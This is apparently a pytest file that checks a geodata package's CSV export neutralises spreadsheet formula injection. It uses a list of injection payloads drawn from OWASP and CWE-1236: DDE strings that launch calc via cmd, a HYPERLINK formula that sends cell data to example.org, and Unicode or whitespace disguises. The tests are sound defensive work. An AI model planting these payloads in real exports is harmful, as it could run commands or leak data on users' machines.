"""Formulas in text stay text in CSV files, numbers stay numbers, and every text comes back as it was."""

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import lacrime_geo as lg
from lacrime_geo.parameters import Parameters
from lacrime_geo.spreadsheets import BEGINS, as_it_was, harmless

# What OWASP, CWE-1236 and the reports of such attacks list.
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "-",
    "+34 600 000",
    "\xa0=1+1",
    "\u200b@SUM(A1)",
    "\ufeff\u3000=1+1",
]
PLAIN = ["", "Main St", "'tis", "a=b", "1200 W 7TH ST", "-118.25", "+3", "-1e-5", "é", "5-3", None, 5, -2.5, np.nan]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_get_an_apostrophe(text):
    assert harmless(text) == f"'{text}" and as_it_was(harmless(text)) == text


@pytest.mark.parametrize("value", PLAIN)
def test_all_else_stays(value):
    assert harmless(value) is value and as_it_was(value) is value


@given(st.text(alphabet=st.one_of(st.sampled_from(" '=+-@\t\r\n1.eE"), st.characters())))
def test_every_text_comes_back_and_none_begins_like_a_formula(text):
    written = harmless(text)
    assert as_it_was(written) == text
    try:
        float(written)
    except ValueError:
        assert written.lstrip(" ")[:1] not in BEGINS or written.lstrip(" ") == ""


def test_a_table_is_written_and_read_again(tmp_path):
    numbers = np.arange(len(ATTACKS)) - 3.5
    mixed = np.array([-5, 2.5, None, *ATTACKS[3:]], dtype=object)
    columns = {"=text": np.array(ATTACKS, dtype=object), "number": numbers, "mixed": mixed}
    lg.Table(columns, Parameters()).save(tmp_path / "table.csv")
    with open(tmp_path / "table.csv", newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert header == ["'=text", "number", "mixed"]
    assert [as_it_was(row[0]) for row in rows] == ATTACKS and all(row[0][0] == "'" for row in rows)
    assert [float(row[1]) for row in rows] == numbers.tolist()
    assert [row[2] for row in rows[:3]] == ["-5", "2.5", ""]
    assert pd.read_csv(tmp_path / "table.csv")["number"].dtype == float


def test_categories_are_text_too(tmp_path):
    frame = pd.Series(["=1", "plain", "=1"], dtype="category")
    lg.Table({"category": frame}, Parameters()).save(tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_text().split() == ["category", "'=1", "plain", "'=1"]
